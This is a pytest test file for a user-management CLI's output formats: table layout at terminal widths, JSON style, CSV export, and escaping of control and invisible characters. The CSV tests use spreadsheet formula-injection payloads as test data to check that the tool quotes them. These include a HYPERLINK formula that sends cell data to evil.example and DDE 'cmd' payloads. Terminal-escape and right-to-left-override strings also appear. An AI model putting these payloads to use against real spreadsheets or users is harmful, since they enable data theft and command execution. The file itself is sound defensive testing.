"""Output formats: tables at 80 columns that never split a value, piped tables without
trailing spaces, one JSON style, CSV cells a spreadsheet cannot run as formulas (issues
"Trust for cron" 12, 13 and "What an attacker broke" 9)."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conftest import Cli, Seeder
from usersctl.bulk import read_records
from usersctl.cli.render import DROP_ORDER, FIELDS, TABLE_FIELDS, OutputFormat, Renderer

SCRIPT = Path(sys.executable).parent / "usersctl"

LONG_NAME = "Ada Augusta King, Countess of Lovelace, Analyst of the Engine"
LONG_EMAIL = "ada.augusta.lovelace@analytical-engine.example.com"
STAMP = "2026-12-01T02:26:37Z"


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def user(n: int, name: str = LONG_NAME, email: str = LONG_EMAIL) -> dict[str, Any]:
    return {"id": n, "name": name, "email": f"{n}.{email}", "role": "administrator",
            "active": True, "created_at": STAMP, "updated_at": STAMP, "last_login_at": STAMP,
            "password_changed_at": STAMP, "expires_at": None, "must_change_password": False,
            "locked": False, "has_password": True}  # fmt: skip


def on_terminal(monkeypatch: pytest.MonkeyPatch, width: int, render: Any) -> str:
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("NO_COLOR", "1")
    out = FakeTerminal()
    render(Renderer(OutputFormat.table, out))
    return plain_text(out.getvalue())


def plain_text(screen: str) -> str:
    """What a person sees: without the bold of the header."""
    return re.sub("\x1b\\[[0-9;]*m", "", screen)


def words_whole(text: str, *values: str) -> None:
    """Every value appears whole on one line: never split across lines."""
    for value in values:
        assert any(value in line for line in text.splitlines()), (value, text)


def header(text: str) -> list[str]:
    return text.splitlines()[0].split()


@pytest.mark.parametrize("width", [80, 100, 120])
def test_a_table_at_the_terminal_width_never_splits_a_value(
    monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    rows = [user(1), user(22, name="Grace"), user(333, email="g@example.com")]
    text = on_terminal(monkeypatch, width, lambda r: r.many(rows))
    from rich.cells import cell_len

    assert all(cell_len(line) <= width for line in text.splitlines()), text
    shown = header(text)
    assert shown[:3] == ["id", "name", "email"]
    # Columns are dropped in the documented order (README, "Output formats").
    order = [name for name in DROP_ORDER if name in FIELDS]
    dropped = [name for name in FIELDS if name not in shown]
    assert set(dropped) == set(order[: len(dropped)])
    values = [text_of(row[name]) for row in rows for name in shown if name != "name"]
    words_whole(text, *values, *"Ada Augusta King, Countess".split())
    whole_timestamps(text)


def text_of(value: Any) -> str:
    if value is None:
        return "-"  # an empty value in a table
    return ("true" if value else "false") if isinstance(value, bool) else str(value)


def whole_timestamps(text: str) -> None:
    for found in re.findall(r"\d{4}-\d\d-\d\dT[\d:]*Z?", text):
        assert len(found) == len(STAMP), (found, text)


def test_a_wide_terminal_shows_every_column(monkeypatch: pytest.MonkeyPatch) -> None:
    text = on_terminal(monkeypatch, 400, lambda r: r.many([user(1)]))
    assert header(text) == list(FIELDS)
    assert len(text.splitlines()) == 3  # header, rule, one unwrapped row


def test_the_audit_changes_column_stays_readable_at_80_columns(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from usersctl.cli.audit import AUDIT_FIELDS, changes_text
    from usersctl.cli.render import AUDIT_DROP_ORDER

    changes = {"name": {"before": None, "after": LONG_NAME}, "role": {"before": "user",
               "after": "administrator"}, "password": "set"}  # fmt: skip
    entry = {"id": 7, "at": STAMP, "actor": "cron:hr-sync", "action": "create", "user_id": 1,
             "email": "ada@example.com", "changes": changes_text(changes)}  # fmt: skip
    text = on_terminal(
        monkeypatch,
        80,
        lambda r: r.many([entry], fields=AUDIT_FIELDS, drop=AUDIT_DROP_ORDER),
    )
    assert all(len(line) <= 80 for line in text.splitlines()), text
    assert header(text)[-1] == "changes"
    assert "actor" in header(text)  # who made the change goes last (README)
    words_whole(text, STAMP, "create", "cron:hr-sync", '"administrator"', "Countess")
    column = text.splitlines()[0].index("changes")
    assert 80 - column >= 16  # at least 16 columns of changes per line


@pytest.mark.parametrize("engine_name", ["sqlite"])
def test_a_real_terminal_of_80_columns(cli: Cli, seed: Seeder, tmp_path: Path) -> None:
    seed([{"name": LONG_NAME, "email": LONG_EMAIL, "role": "administrator"},
          {"name": "Grace", "email": "grace@example.com"}])  # fmt: skip
    env = {**os.environ, "USERSCTL_DATABASE_URL": cli.url, "COLUMNS": "80", "TERM": "xterm",
           "NO_COLOR": "1", "HOME": str(tmp_path)}  # fmt: skip
    for command in (["list"], ["audit"], ["get", "1"]):
        controller, terminal = pty.openpty()
        done = subprocess.run([str(SCRIPT), *command], stdout=terminal, stderr=terminal,
                              env=env, timeout=60)  # fmt: skip
        os.close(terminal)
        screen = b""
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:
                break
            if not chunk:
                break
            screen += chunk
        os.close(controller)
        assert done.returncode == 0, screen
        text = plain_text(screen.decode().replace("\r\n", "\n"))
        assert all(len(line) <= 80 for line in text.splitlines()), text
        if command[0] != "audit":  # (audit drops its email column first: README)
            words_whole(text, LONG_EMAIL)
        if command[0] != "get":  # what is left out is said, never silently
            assert "column(s) left out to fit 80 columns" in text, text
        whole_timestamps(text)


def test_piped_tables_have_their_natural_width_and_no_trailing_spaces(
    cli: Cli, seed: Seeder
) -> None:
    seed([{"name": LONG_NAME, "email": LONG_EMAIL}, {"name": "Grace", "email": "g@example.com"}])
    for command in (["list"], ["get", "2"], ["audit"]):
        out = cli.ok(*command).stdout
        assert out.endswith("\n")
        for line in out.splitlines():
            assert line == line.rstrip(), (command, line)
    listing = cli.ok("list").stdout
    assert header(listing) == list(TABLE_FIELDS)
    assert header(cli.ok("list", "--columns", ",".join(FIELDS)).stdout) == list(FIELDS)
    words_whole(listing, LONG_NAME, LONG_EMAIL)


# ---------------- one JSON style


def test_json_arrays_are_indented_like_single_objects(cli: Cli, seed: Seeder) -> None:
    seed([{"name": "Ada", "email": "ada@example.com"}, {"name": "Bo", "email": "bo@example.com"}])
    one = cli.ok("get", "1", "-o", "json").stdout
    two = cli.ok("get", "2", "-o", "json").stdout
    many = cli.ok("list", "-o", "json").stdout

    def nested(document: str) -> str:
        return "  " + document.rstrip("\n").replace("\n", "\n  ")

    assert many == "[\n" + nested(one) + ",\n" + nested(two) + "\n]\n"
    assert one.startswith('{\n  "id": 1,\n')
    assert cli.ok("list", "-o", "json", "--role", "nobody").stdout == "[]\n"
    lines = cli.ok("list", "-o", "jsonl").stdout.splitlines()
    assert [json.loads(line) for line in lines] == json.loads(many)
    assert all(line.startswith('{"id": ') and "\n" not in line for line in lines)


# ---------------- CSV formula injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=already quoted",
    "''=twice",
    "'Tis a name",
]


def test_csv_cells_a_spreadsheet_would_run_are_quoted(cli: Cli, seed: Seeder) -> None:
    seed([{"name": name, "email": f"u{n}@example.com"} for n, name in enumerate(FORMULAS)])
    seed([{"name": "Sum", "email": "=2+3@example.com"}])
    for command in (["export", "-f", "csv"], ["list", "-o", "csv"]):
        rows = list(csv.reader(io.StringIO(cli.ok(*command).stdout)))[1:]
        names = [row[1] for row in rows]
        assert names[:7] == [
            "'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'-2+3",
            "''=already quoted", "'''=twice", "'Tis a name",
        ]  # fmt: skip
        assert rows[7][2] == "'=2+3@example.com"
        for row in rows:
            assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_csv_export_restores_exactly(
    cli: Cli, seed: Seeder, tmp_path: Path, empty_db_url: str
) -> None:
    seed([{"name": name, "email": f"u{n}@example.com"} for n, name in enumerate(FORMULAS)])
    seed([{"name": "Sum", "email": "=2+3@example.com"}])
    dump = tmp_path / "dump.csv"
    cli.ok("export", "--include-hashes", "--output-file", str(dump))
    target = Cli(url=empty_db_url, runner=cli.runner)
    target.ok("db", "upgrade")
    target.ok("import", str(dump), "--restore")
    snapshot = ("export", "--include-hashes", "-f", "jsonl")
    assert target.ok(*snapshot).stdout == cli.ok(*snapshot).stdout
    assert target.json("get", "=2+3@example.com")["name"] == "Sum"


CELLS = st.one_of(
    st.text(max_size=30),
    st.builds(
        "{}{}{}".format,
        st.text(alphabet="'", max_size=3),
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "x"]),
        st.text(max_size=10),
    ),
)


@settings(max_examples=300, deadline=None)
@given(name=CELLS, email=CELLS, role=CELLS)
@example(name="'=x", email="=2+3@example.com", role="-")
@example(name="\r\n=1", email="'", role="''")
def test_csv_round_trip_is_lossless(name: str, email: str, role: str) -> None:
    """Whatever the cells hold, what import reads back is exactly what export wrote."""
    record = {"id": 1, "name": name, "email": email, "role": role, "active": True,
              "created_at": STAMP, "updated_at": STAMP}  # fmt: skip
    out = io.StringIO()
    Renderer(OutputFormat.csv, out).many([record], exact=True)
    written = out.getvalue()
    for row in list(csv.reader(io.StringIO(written)))[1:]:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    (read,) = read_records(io.StringIO(written, newline=""), "csv")
    assert read.data is not None
    for key in ("name", "email", "role"):
        value = record[key]
        assert read.data.get(key, "") == value, key


# ---------------- invisible characters, shown escaped


def test_the_format_character_list_matches_unicode() -> None:
    import unicodedata

    from usersctl.escaping import FORMAT_CHARACTERS, printable

    pattern = re.compile(f"[{FORMAT_CHARACTERS}]")
    for code in range(0x110000):
        char = chr(code)
        category = unicodedata.category(char)
        if category == "Cf" and char not in "\u200c\u200d":
            assert pattern.match(char), f"U+{code:04X}"
        elif pattern.match(char):
            assert category in ("Cf", "Cn"), f"U+{code:04X}"
    assert printable("a\u202eb\u200d\U000e0041") == "a\\u202eb\u200d\\U000e0041"


def test_an_escape_typed_as_text_never_reads_as_a_real_one() -> None:
    """`\\x1b` typed into a name shows with its backslash doubled; a real ESC as `\\x1b`.
    Other backslashes (a Windows domain login) are shown as they are."""
    from usersctl.escaping import printable

    assert printable("Mallory\x1b[2J") == "Mallory\\x1b[2J"
    assert printable("Mallory\\x1b[2J") == "Mallory\\\\x1b[2J"
    assert printable("a\\u202e b\\U000e0041") == "a\\\\u202e b\\\\U000e0041"
    assert printable("CORP\\ada") == "CORP\\ada"
    # A real backslash then a real ESC is not the typed text either.
    assert printable("\\\x1b") == "\\\\\\x1b" != printable("\\x1b")


@pytest.mark.parametrize("fmt", [OutputFormat.jsonl, OutputFormat.json])
def test_json_escapes_unsafe_characters_in_every_line_of_a_batch(fmt: OutputFormat) -> None:
    """The escaping skips plain-ASCII text (for export's speed): a batch of ASCII lines
    with one DEL, one right-to-left override, one line separator, one accented name and
    one astral format character still comes out escaped exactly where needed, lossless."""
    names = [f"user {n}" for n in range(2500)]
    names[7] = "del\x7fete"
    names[1200] = "evil\u202eexe.txt"
    names[1999] = "line\u2028break"
    names[2001] = "José"
    names[2400] = "tag\U000e0041"
    records = [{"id": n, "name": name} for n, name in enumerate(names)]
    out = io.StringIO()
    Renderer(fmt, out).many(records, fields=["id", "name"], exact=True)
    text = out.getvalue()
    assert not re.search("[\x7f-\x9f\u2028\u2029\u202e\U000e0041]", text), "unescaped"
    assert "\\u007f" in text and "\\u202e" in text and "\\u2028" in text
    assert "\\udb40\\udc41" in text and "José" in text  # astral: a surrogate pair
    parsed = [json.loads(line) for line in text.splitlines()] if fmt == "jsonl" else None
    back = parsed if parsed is not None else json.loads(text)
    assert [row["name"] for row in back] == names
